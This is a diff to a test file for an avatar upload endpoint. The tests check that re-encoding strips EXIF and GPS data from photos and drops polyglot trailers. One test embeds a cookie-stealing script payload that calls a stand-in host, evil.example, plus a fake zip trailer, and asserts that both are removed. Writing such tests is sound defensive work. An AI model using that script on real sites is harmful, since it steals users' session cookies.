@@ -1,9 +1,11 @@
 /**
  * Avatar upload and serving over real HTTP: images recognised by their bytes, disguised files refused,
- * the 5 MB limit (this route's own, while the rest of the API keeps 1 MB), and the cached image URL.
+ * the 5 MB limit (this route's own, while the rest of the API keeps 1 MB), the cached image URL, and
+ * every image re-encoded: no EXIF (GPS) and no polyglot bytes survive the upload.
  */
 import { createHash } from 'node:crypto';
-import { expect, it } from 'vitest';
+import sharp from 'sharp';
+import { beforeAll, expect, it } from 'vitest';
 import { AVATAR_MESSAGES, sniffImage } from '../../server/auth/avatars';
 import type { SignedInUser } from './harness';
 import { describeServer, isFastApiError, useServer } from './harness';
@@ -12,7 +14,8 @@ const h = useServer();
 const UPLOAD = '/api/v1/auth/profile/upload-avatar';
 const MB = 1024 * 1024;
 
-// The smallest real images: a 1×1 PNG and GIF, a JPEG header, a WebP (VP8L) header.
+// The smallest real images: a 1×1 PNG and GIF; a JPEG header and a WebP (VP8L) header, which only
+// sniff as images (they do not decode).
 const PNG = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
   'base64',
@@ -25,6 +28,29 @@ const WEBP = Buffer.concat([
   Buffer.from('WEBPVP8L'),
   Buffer.from([0x0d, 0, 0, 0, 0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe]),
 ]);
+
+/** Real, decodable JPEG and WebP images (made with sharp). */
+const real = { jpeg: Buffer.alloc(0), webp: Buffer.alloc(0) };
+/** A phone photo: EXIF naming the camera and the GPS position where it was taken. */
+let phonePhoto = Buffer.alloc(0);
+beforeAll(async () => {
+  const blank = () =>
+    sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } });
+  real.jpeg = await blank().jpeg().toBuffer();
+  real.webp = await blank().webp().toBuffer();
+  phonePhoto = await blank()
+    .jpeg()
+    .withExif({
+      IFD0: { Make: 'PhoneMaker', Model: 'Snap 12' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '51/1 30/1 2650/100',
+        GPSLongitudeRef: 'W',
+        GPSLongitude: '0/1 7/1 3960/100',
+      },
+    })
+    .toBuffer();
+});
 
 function form(bytes: Buffer, name = 'avatar.png', type = 'image/png', field = 'file') {
   const data = new FormData();
@@ -58,9 +84,9 @@ describeServer('avatar upload', () => {
     const user = await h.signedInUser();
     const reply = await upload(user, form(PNG, 'me.gif', 'image/gif'));
     expect(reply.status, reply.text).toBe(200);
-    const etag = createHash('sha256').update(PNG).digest('hex');
-    const path = `/api/v1/auth/avatars/${user.user.id}/${etag}`;
-    expect(reply.body.user.profile.avatar_url).toBe(path);
+    const path = reply.body.user.profile.avatar_url as string;
+    const etag = path.split('/').at(-1)!;
+    expect(path).toBe(`/api/v1/auth/avatars/${user.user.id}/${etag}`);
     expect(reply.body.user).toMatchObject({ ...user.user, profile: { avatar_url: path } });
     const me = await h.get('/api/v1/auth/me', { token: user.access_token });
     expect(me.body.user.profile.avatar_url).toBe(path);
@@ -68,7 +94,10 @@ describeServer('avatar upload', () => {
     // Served to <img> without a token, as the bytes say (not as the upload claimed).
     const image = await fetch(h.url + path);
     expect(image.status).toBe(200);
-    expect(Buffer.from(await image.arrayBuffer())).toEqual(PNG);
+    const served = Buffer.from(await image.arrayBuffer());
+    // Re-encoded: the same 1×1 PNG, named by the hash of what is served.
+    expect(createHash('sha256').update(served).digest('hex')).toBe(etag);
+    expect(await sharp(served).metadata()).toMatchObject({ format: 'png', width: 1, height: 1 });
     expect(image.headers.get('content-type')).toBe('image/png');
     expect(image.headers.get('x-content-type-options')).toBe('nosniff');
     expect(image.headers.get('content-disposition')).toBe('inline');
@@ -85,8 +114,8 @@ describeServer('avatar upload', () => {
     const user = await h.signedInUser();
     const urls: string[] = [];
     for (const [bytes, type] of [
-      [JPEG, 'image/jpeg'],
-      [WEBP, 'image/webp'],
+      [real.jpeg, 'image/jpeg'],
+      [real.webp, 'image/webp'],
       [GIF, 'image/gif'],
     ] as const) {
       const reply = await upload(user, form(bytes, 'x.bin', 'application/octet-stream'));
@@ -99,6 +128,64 @@ describeServer('avatar upload', () => {
     expect(new Set(urls).size).toBe(3);
     expect((await fetch(h.url + urls[0])).status).toBe(404);
     expect((await fetch(h.url + urls[2])).status).toBe(200);
+  });
+
+  it('strips EXIF (the GPS position of a phone photo) and keeps its size and orientation', async () => {
+    expect((await sharp(phonePhoto).metadata()).exif).toBeDefined();
+    expect(phonePhoto.includes('PhoneMaker')).toBe(true);
+    const user = await h.signedInUser();
+    const reply = await upload(user, form(phonePhoto, 'IMG_0042.jpg', 'image/jpeg'));
+    expect(reply.status, reply.text).toBe(200);
+    const served = Buffer.from(
+      await (await fetch(h.url + reply.body.user.profile.avatar_url)).arrayBuffer(),
+    );
+    const meta = await sharp(served).metadata();
+    expect(meta).toMatchObject({ format: 'jpeg', width: 40, height: 30 });
+    expect(meta.exif).toBeUndefined();
+    expect(meta.xmp).toBeUndefined();
+    expect(served.includes('PhoneMaker')).toBe(false);
+    expect(served.includes('Exif')).toBe(false);
+  });
+
+  it('drops whatever a polyglot carries after the image (a script, a zip)', async () => {
+    const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
+    const zip = Buffer.concat([
+      Buffer.from('PK\x03\x04'),
+      Buffer.from('payload.js'),
+      Buffer.alloc(64, 7),
+    ]);
+    const user = await h.signedInUser();
+    for (const [image, type] of [
+      [real.jpeg, 'image/jpeg'],
+      [PNG, 'image/png'],
+      [GIF, 'image/gif'],
+    ] as const) {
+      const polyglot = Buffer.concat([image, Buffer.from(script), zip]);
+      const reply = await upload(user, form(polyglot, 'x.jpg', type));
+      expect(reply.status, reply.text).toBe(200);
+      const served = Buffer.from(
+        await (await fetch(h.url + reply.body.user.profile.avatar_url)).arrayBuffer(),
+      );
+      expect(served.includes('<script>'), type).toBe(false);
+      expect(served.includes('PK\x03\x04'), type).toBe(false);
+      expect(served.includes('payload.js'), type).toBe(false);
+      expect((await sharp(served).metadata()).format).toBe(type.slice('image/'.length));
+    }
+    // A JPEG ends at its end-of-image marker now.
+    const last = await upload(user, form(Buffer.concat([real.jpeg, Buffer.from(script)])));
+    const bytes = Buffer.from(
+      await (await fetch(h.url + last.body.user.profile.avatar_url)).arrayBuffer(),
+    );
+    expect([...bytes.subarray(-2)]).toEqual([0xff, 0xd9]);
+  });
+
+  it('refuses an image that does not decode (the right magic bytes, nothing behind them)', async () => {
+    const user = await h.signedInUser();
+    for (const bytes of [JPEG, WEBP, Buffer.concat([PNG.subarray(0, 40), Buffer.alloc(20)])]) {
+      const reply = await upload(user, form(bytes));
+      expect(reply.status).toBe(415);
+      expect(reply.body).toEqual({ detail: AVATAR_MESSAGES.notAnImage });
+    }
   });
 
   it('refuses files that only claim to be images with 415 {detail}, and keeps the old avatar', async () => {
